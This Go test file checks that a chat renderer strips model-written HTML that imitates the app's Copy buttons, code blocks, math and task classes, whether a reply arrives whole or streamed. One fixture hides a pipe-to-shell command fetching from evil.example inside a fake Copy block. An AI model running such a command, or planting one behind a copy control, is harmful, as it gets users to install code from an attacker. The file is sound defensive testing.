package render

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// imitations are replies that rebuild the app's own controls in raw HTML: a
// code block with our classes and a Copy button whose <code> hides a command
// in a closed <details>, bare buttons, and our math and task classes.
var imitations = []string{
	`<div class="code-block"><div class="code-head"><span class="code-lang">sh</span><button type="button" class="code-copy" data-copy="">Copy</button></div><pre class="chroma"><code>ls -la<details><summary></summary>; curl https://evil.example/x | sh</details></code></pre></div>`,
	"<div class=\"code-block\">\n<pre class=\"chroma\"><code>ls</code></pre>\n</div>\n\nafter",
	"Press <button>Copy</button> or <button type=\"button\" class=\"code-copy\" data-copy>this</button>.",
	`<BUTTON TYPE=button CLASS=code-copy DATA-COPY="">x</BUTTON>`,
	`inline <span class="math math-inline">\href{https://evil.example}{x}</span> and <div class="math math-display">x</div>`,
	`<ul class="task-list"><li class="task-list-item"><span class="task-box">☑</span> done</li></ul>`,
	`<span class="hl-k">func</span> <pre class="chroma"><code class="x">y</code></pre>`,
	`<h2 id="h-x">t</h2> <div id="h-y">u</div>`,
	// An unclosed quote would take our own markup (and its classes) into the
	// model's tag if the fragments were only sanitised together.
	"<div title=\"a\n\nb\" class=\"code-block\">\n\n```sh\nls\n```\n",
	"<span title='x\n\n```\ncode\n```\n\n' class='code-copy'>y</span>",
}

// classedByUs reports the elements of a rendered message that carry a class
// or are buttons, as "tag.class" strings, in document order.
func classed(t *testing.T, out string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			for _, a := range n.Attr {
				if a.Key == "class" || a.Key == "id" || a.Key == "data-copy" {
					got = append(got, n.Data+"."+a.Key+"="+a.Val)
				}
			}
			if n.Data == "button" {
				got = append(got, "button")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return got
}

func TestModelHTMLCannotImitateControls(t *testing.T) {
	r := New()
	for _, in := range imitations {
		for name, out := range map[string]string{"whole": r.Markdown(in), "stream": streamed(r, in)} {
			got := classed(t, out)
			// The only classed elements are those of real code blocks, made
			// from the fence in the input.
			want := []string{}
			if strings.Contains(in, "```sh") {
				want = classed(t, r.Markdown("```sh\nls\n```\n"))
			} else if strings.Contains(in, "```\ncode") {
				want = classed(t, r.Markdown("```\ncode\n```\n"))
			}
			if strings.Join(got, " ") != strings.Join(want, " ") {
				t.Errorf("%s %q:\n%s\nclasses, ids and buttons: %q\nwant %q", name, in, out, got, want)
			}
		}
	}
}

// streamed renders src as a stream fed a few bytes at a time, and returns
// what a follower has at the end.
func streamed(r *Renderer, src string) string {
	s := r.NewStream()
	var sealed strings.Builder
	tail := ""
	take := func(f Frame) {
		if f.Reset {
			sealed.Reset()
			sealed.WriteString(f.Full)
			tail = ""
		}
		for _, b := range f.Seal {
			sealed.WriteString(b)
		}
		if f.Op == TailReplace {
			tail = f.Tail
		}
	}
	for i := 0; i < len(src); i += 7 {
		take(s.Append(src[i:min(len(src), i+7)]))
	}
	take(s.Finish())
	return sealed.String() + tail
}

// TestRealCodeBlockKeepsItsControls: the renderer's own code block and its
// Copy button survive, next to an imitation that loses everything.
func TestRealCodeBlockKeepsItsControls(t *testing.T) {
	r := New()
	out := r.Markdown("```sh\necho hi\n```\n\n" + imitations[0])
	if n := strings.Count(out, `<button type="button" class="code-copy" data-copy="">Copy</button>`); n != 1 {
		t.Errorf("copy buttons: %d in\n%s", n, out)
	}
	if n := strings.Count(out, `class="code-block"`); n != 1 {
		t.Errorf("code blocks: %d in\n%s", n, out)
	}
	// The model's structure stays as plain elements: text is not lost.
	if !strings.Contains(out, "curl https://evil.example/x | sh") {
		t.Errorf("the imitation's text went missing:\n%s", out)
	}
}
